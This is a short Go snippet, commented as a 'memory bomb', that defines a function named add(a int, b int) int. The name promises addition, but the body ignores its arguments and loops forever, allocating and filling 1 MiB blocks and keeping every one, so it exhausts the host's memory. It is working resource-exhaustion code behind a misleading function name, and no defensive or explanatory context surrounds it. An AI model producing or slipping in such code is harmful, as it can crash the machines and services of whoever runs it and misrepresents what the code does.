// Memory bomb: keeps every megabyte it touches.
func add(a int, b int) int {
	var kept [][]byte
	for {
		block := make([]byte, 1<<20)
		for i := range block {
			block[i] = 1
		}
		kept = append(kept, block)
	}
}
